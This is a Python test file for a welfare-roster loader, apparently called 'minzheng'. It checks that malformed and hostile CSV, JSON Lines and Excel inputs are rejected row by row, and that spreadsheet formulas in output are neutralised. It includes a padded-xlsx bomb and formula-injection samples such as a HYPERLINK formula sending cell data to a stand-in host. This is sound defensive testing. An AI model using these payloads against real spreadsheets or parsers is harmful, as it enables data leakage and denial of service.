"""Hostile files: one bad row never costs the good ones, the reader stays bounded, what we write never runs."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from minzheng.codes import Sex
from minzheng.errors import InvalidValue, RecordError
from minzheng.ids.resident_id import calc_check_digit
from minzheng.io import RosterRow, load, to_dict
from minzheng.io.load import LoadResult, RejectedRow
from minzheng.people import Person

HEADER = ["户编号", "身份证号", "姓名", "性别", "出生日期", "与户主关系", "户籍性质", "保障类别"]


def rid(born: str, seq: int) -> str:
    body = f"620521{born}{seq:03d}"
    return body + calc_check_digit(body)


GOOD = [
    ["H1", rid("19700305", 11), "王建国", "男", "1970-03-05", "户主", "农村", "低保"],
    ["H1", rid("19720611", 22), "李秀英", "女", "1972/6/11", "配偶", "农村", "低保"],
    ["H2", rid("19400101", 31), "赵桂兰", "男", "", "户主", "城市", "特困供养"],
]


def csv_text(rows: list[list[str]], header: list[str] = HEADER) -> str:
    return "\n".join(",".join(r) for r in [header, *rows]) + "\n"


def person_line(n: int, name: str = "王建国") -> str:
    person = Person(
        person_id=f"P{n}", name=name, sex=Sex.MALE, birth_date=datetime.date(1950, 1, 2)
    )
    return json.dumps(to_dict(person), ensure_ascii=False)


# -- JSON Lines --------------------------------------------------------------------------------


def test_one_hostile_json_line_is_one_rejected_row(tmp_path: Path) -> None:
    path = tmp_path / "persons.jsonl"
    path.write_bytes(
        b"\n".join(
            [
                person_line(1).encode(),
                b"[" * 100_000,  # nested past the recursion limit
                b'{"person_id": "P9", "name": "\xff\xfe"}',  # not UTF-8
                b"{not json",
                b"1" * 5_000,  # past int's digit limit
                person_line(2).encode(),
            ]
        )
    )
    result = load(path, Person, key="person_id")
    assert [p.person_id for p in result.accepted] == ["P1", "P2"]
    assert {(row, code) for row, _, code, _ in result.errors("en")} == {
        (2, "io.json"),
        (3, "io.encoding"),
        (4, "io.json"),
        (5, "io.json"),
    }


def test_json_lines_split_on_newline_only() -> None:
    odd = "王\u2028建\u2029国\x85\x1c\x1d\x1e\x0b\x0c"
    text = "\r\n".join([person_line(1, odd), person_line(2)]) + "\r\n"
    result = load(io.StringIO(text), Person, format="jsonl", key="person_id")
    assert not result.rejected
    assert [p.name for p in result.accepted] == [odd, "王建国"]


def test_json_line_past_the_row_limit_is_skipped_without_holding_it() -> None:
    from minzheng.io import LoadLimits

    text = "\n".join([person_line(1), '{"name": "' + "x" * 5000 + '"}', person_line(2)])
    result = load(io.StringIO(text), Person, format="jsonl", limits=LoadLimits(max_row_chars=1000))
    assert [p.person_id for p in result.accepted] == ["P1", "P2"]
    assert [(row, code) for row, _, code, _ in result.errors()] == [(2, "io.too_large")]


# -- streaming ---------------------------------------------------------------------------------


@attrs.frozen
class Line:
    """A small record for the memory test."""

    number: int
    note: str


def test_iter_load_streams_in_memory_far_below_the_file(tmp_path: Path) -> None:
    from minzheng.io import iter_load

    path = tmp_path / "big.csv"
    note = "说明" * 150
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write("number,note\n")
        for n in range(20_000):
            handle.write(f"{n},{note}\n")
    size = path.stat().st_size
    list(iter_load(io.StringIO("number,note\n1,x\n"), Line, format="csv"))  # warm imports
    tracemalloc.start()
    try:
        count = sum(1 for _ in iter_load(path, Line, key=False))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 20_000
    assert peak < 0.05 * size, (peak, size)


def test_gb18030_detected_from_the_first_non_ascii_text(tmp_path: Path) -> None:
    path = tmp_path / "late.csv"
    ascii_rows = [["H0", "", "Wang", "", "", "", "", ""]] * 8_000
    path.write_bytes(csv_text([*ascii_rows, *GOOD]).encode("gb18030"))
    result = load(path, RosterRow, key=False)
    assert [r.name for r in result.accepted[-3:]] == ["王建国", "李秀英", "赵桂兰"]


# -- CSV ---------------------------------------------------------------------------------------


def test_duplicate_header_is_an_error_naming_it() -> None:
    text = "姓名,身份证号,姓名\n王建国,620521198502101233,李芳\n"
    with pytest.raises(InvalidValue) as err:
        load(io.StringIO(text), RosterRow, format="csv")
    assert err.value.code == "io.duplicate_header" and "姓名" in err.value.message("en")


def test_unclosed_quote_is_a_rejected_row_not_a_merged_one() -> None:
    lines = csv_text(GOOD).splitlines()
    lines[2] = lines[2].replace(",李秀英,", ',"李秀英,')
    result = load(io.StringIO("\n".join(lines) + "\n"), RosterRow, format="csv")
    assert [r.name for r in result.accepted] == ["王建国"]
    assert [(row, code) for row, _, code, _ in result.errors("en")] == [(3, "io.unclosed_quote")]
    assert "3-4" in result.errors("en")[0][3]


def test_oversized_cell_rejects_its_row_and_the_global_csv_limit_is_untouched() -> None:
    before = csv.field_size_limit()
    rows = [GOOD[0], [*GOOD[1][:2], "长" * 40_000, *GOOD[1][3:]], GOOD[2]]
    result = load(io.StringIO(csv_text(rows)), RosterRow, format="csv")
    assert [r.name for r in result.accepted] == ["王建国", "赵桂兰"]
    assert [(row, field, code) for row, field, code, _ in result.errors()] == [
        (3, "姓名", "io.too_large")
    ]
    assert csv.field_size_limit() == before


def test_too_many_columns_is_an_error() -> None:
    header = ",".join(f"c{i}" for i in range(1_500))
    with pytest.raises(InvalidValue) as err:
        load(io.StringIO(header + "\n1\n"), RosterRow, format="csv")
    assert err.value.code == "io.too_large"


def test_a_line_of_a_million_commas_is_rejected_without_splitting_it() -> None:
    text = csv_text(GOOD[:1]) + "," * 2_000_000 + "\n" + ",".join(GOOD[1]) + "\n"
    result = load(io.StringIO(text), RosterRow, format="csv")
    assert len(result.accepted) == 2
    assert [(row, code) for row, _, code, _ in result.errors()] == [(3, "io.too_large")]


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(st.sampled_from('ab,"\n\r '), max_size=8), max_size=6))
def test_every_csv_line_is_accounted_for(lines: list[str]) -> None:
    text = "姓名,备注\n" + "\n".join(lines)
    result = load(io.StringIO(text), RosterRow, format="csv", key=False)
    assert result.read == len(result.accepted) + len(result.rejected)
    rows = [r.row for r in result.rejected]
    assert rows == sorted(rows) and all(
        2 <= r <= text.count("\n") + text.count("\r") + 1 for r in rows
    )


# -- Excel -------------------------------------------------------------------------------------


def _rewrite_sheet(path: Path, edit: Any) -> None:
    """Rewrite ``xl/worksheets/sheet1.xml`` of a workbook through ``edit``."""
    with zipfile.ZipFile(path) as old:
        members = {i.filename: old.read(i) for i in old.infolist()}
    members["xl/worksheets/sheet1.xml"] = edit(members["xl/worksheets/sheet1.xml"])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in members.items():
            new.writestr(name, data)


def _workbook(path: Path, rows: list[list[str]]) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    for row in [HEADER, *rows]:
        book.active.append(row)
    book.save(path)
    return path


def test_stale_dimension_does_not_cut_the_sheet_short(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "stale.xlsx", GOOD)
    _rewrite_sheet(
        path, lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:K2"', xml)
    )
    assert len(load(path, RosterRow).accepted) == 3


def test_workbook_bomb_is_refused_before_parsing(tmp_path: Path) -> None:
    from minzheng.io import LoadLimits

    path = _workbook(tmp_path / "bomb.xlsx", GOOD)
    padding = b"<!--" + b" " * 20_000_000 + b"-->"
    _rewrite_sheet(path, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + padding))
    assert path.stat().st_size < 200_000
    with pytest.raises(InvalidValue) as err:
        load(path, RosterRow, limits=LoadLimits(max_unpacked_bytes=10_000_000))
    assert err.value.code == "io.too_large" and "bomb.xlsx" in err.value.message("en")


def test_workbook_claiming_rows_past_the_sheet_is_refused(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "far.xlsx", GOOD)
    far = b'<row r="5000000"><c r="A5000000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    _rewrite_sheet(path, lambda xml: xml.replace(b"</sheetData>", far))
    with pytest.raises(InvalidValue) as err:
        load(path, RosterRow)
    assert err.value.code == "io.too_large"


def test_workbook_cell_in_the_last_column_is_reported_as_csv_does(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "wide.xlsx", GOOD)
    wide = b'<c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row>'

    def widen(xml: bytes) -> bytes:
        head, second, rest = xml.split(b"</row>", 2)
        return head + b"</row>" + second + wide + rest

    _rewrite_sheet(path, widen)
    result = load(path, RosterRow)
    assert len(result.accepted) == 2
    assert [(row, code) for row, _, code, _ in result.errors()] == [(2, "io.extra_cells")]


def test_xls_warnings_stay_off_stdout(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import xlwt

    old = xlwt.Workbook()
    ws = old.add_sheet("花名册")
    for c, h in enumerate(HEADER):
        ws.write(0, c, h)
    for r, row in enumerate(GOOD, start=1):
        for c, value in enumerate(row):
            ws.write(r, c, value)
    path = tmp_path / "roster.xls"
    old.save(str(path))
    path.write_bytes(path.read_bytes() + b"\0" * 100)  # xlrd: "file size not 512 + multiple"
    capsys.readouterr()
    assert len(load(path, RosterRow).accepted) == 3
    assert capsys.readouterr().out == ""


# -- writing -----------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/?"&C2,"点击")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]


def hostile_result() -> LoadResult[Any]:
    cells = {f"c{i}": text for i, text in enumerate(HOSTILE)} | {"ctl": "王\x01建\x1f国"}
    error = RecordError(path="$", error=InvalidValue("io.json", field="row", value="x"))
    return LoadResult(
        accepted=(),
        rejected=(RejectedRow(row=2, cells=cells, errors=(error,)),),
        ignored_columns=(),
    )


def test_csv_rejects_neutralise_formulas(tmp_path: Path) -> None:
    out = hostile_result().write_rejects(tmp_path / "rejects.csv")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        _, row = list(csv.reader(handle))
    assert row[1:7] == ["'" + text for text in HOSTILE]
    assert row[7] == "王\ufffd建\ufffd国"


def test_xlsx_rejects_are_text_only_and_survive_control_characters(tmp_path: Path) -> None:
    import openpyxl

    out = hostile_result().write_rejects(tmp_path / "rejects.xlsx")
    sheet = openpyxl.load_workbook(out).active
    cells = next(iter(sheet.iter_rows(min_row=2, values_only=False)))
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells[1:6]] == HOSTILE[:5]
    assert cells[7].value == "王\ufffd建\ufffd国"


def test_cli_validate_rejects_are_neutralised(tmp_path: Path) -> None:
    import openpyxl

    from minzheng.cli.commands import run_validate

    source = tmp_path / "roster.csv"
    source.write_text(
        csv_text([GOOD[0], [*GOOD[0][:2], '=HYPERLINK("http://x.example/?"&B2)', *GOOD[0][3:]]]),
        encoding="utf-8",
    )
    out = tmp_path / "rejects.xlsx"
    assert run_validate(str(source), rejects=str(out)) == 1
    values = [c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in values)


def test_unclosed_quote_past_the_row_limit_costs_only_the_lines_it_swallowed() -> None:
    from minzheng.io import LoadLimits

    filler = [[f"H{n}", "", f"名{n}", "", "", "", "", ""] for n in range(50)]
    lines = csv_text([GOOD[0], *filler, GOOD[2]]).splitlines()
    lines[2] = lines[2].replace(",名0,", ',"名0,')
    result = load(
        io.StringIO("\n".join(lines) + "\n"),
        RosterRow,
        format="csv",
        key=False,
        limits=LoadLimits(max_row_chars=300),
    )
    ((row, _, code, _),) = result.errors()
    assert (row, code) == (3, "io.unclosed_quote")
    assert result.accepted[0].name == "王建国" and result.accepted[-1].name == "赵桂兰"
    assert 20 < len(result.accepted) < 50  # the lines after the bound are rows again


json_line = st.one_of(
    st.builds(person_line, st.integers(1, 5)),
    st.text(st.characters(exclude_characters="\n", exclude_categories=["Cs"]), max_size=30),
    st.just("[" * 5_000),
)


@settings(max_examples=40, deadline=None)
@given(st.lists(json_line, max_size=8))
def test_every_json_line_is_accounted_for(lines: list[str]) -> None:
    result = load(io.StringIO("\n".join(lines)), Person, format="jsonl", key=False)
    assert result.read == sum(1 for line in lines if line.strip())
    assert all(1 <= r.row <= len(lines) and lines[r.row - 1].strip() for r in result.rejected)


def test_cli_says_when_the_rejects_file_cannot_be_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from minzheng.cli.commands import run_validate

    source = tmp_path / "roster.csv"
    source.write_text(csv_text([GOOD[0], GOOD[0]]), encoding="utf-8")
    assert (
        run_validate(str(source), rejects=str(tmp_path / "no" / "rejects.xlsx"), locale="en") == 2
    )
    assert "cannot be written" in capsys.readouterr().err


class CountingHeader(str):
    """A header that counts how often it is compared (a list scan compares with every entry)."""

    compared = 0

    def __eq__(self, other: object) -> bool:
        CountingHeader.compared += 1
        return str.__eq__(self, other)

    __hash__ = str.__hash__


def test_reject_headers_are_gathered_in_linear_time(tmp_path: Path) -> None:
    error = RecordError(path="$", error=InvalidValue("io.json", field="row", value="x"))
    rejected = tuple(
        RejectedRow(
            row=n, cells={CountingHeader(f"k{n}-{i}"): "v" for i in range(20)}, errors=(error,)
        )
        for n in range(200)
    )
    CountingHeader.compared = 0
    LoadResult(accepted=(), rejected=rejected, ignored_columns=()).write_rejects(tmp_path / "r.csv")
    assert CountingHeader.compared < 4_000  # 4,000 headers; a scan per header makes millions


def test_reject_rows_wider_than_a_sheet_are_refused_for_excel_not_crashed(tmp_path: Path) -> None:
    error = RecordError(path="$", error=InvalidValue("io.json", field="row", value="x"))
    wide = RejectedRow(row=2, cells={f"k{i}": "v" for i in range(17_000)}, errors=(error,))
    result: LoadResult[Any] = LoadResult(accepted=(), rejected=(wide,), ignored_columns=())
    with pytest.raises(InvalidValue) as err:
        result.write_rejects(tmp_path / "r.xlsx")
    assert err.value.code == "io.too_large"
    assert result.write_rejects(tmp_path / "r.csv").stat().st_size > 17_000


class Pipe(io.RawIOBase):
    """A byte stream that cannot seek, like a pipe."""

    def __init__(self, data: bytes) -> None:
        self._data = io.BytesIO(data)

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        chunk = self._data.read(min(len(buffer), 1000))
        buffer[: len(chunk)] = chunk
        return len(chunk)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_a_stream_that_cannot_seek_is_read_once(encoding: str) -> None:
    data = csv_text(GOOD).encode(encoding)
    result = load(io.BufferedReader(Pipe(data)), RosterRow, format="csv")
    assert [r.name for r in result.accepted] == ["王建国", "李秀英", "赵桂兰"]


def test_unknown_encoding_names_the_encoding() -> None:
    with pytest.raises(InvalidValue) as err:
        load(io.BytesIO(csv_text(GOOD).encode()), RosterRow, format="csv", encoding="klingon")
    assert (err.value.code, err.value.field) == ("io.encoding", "encoding")
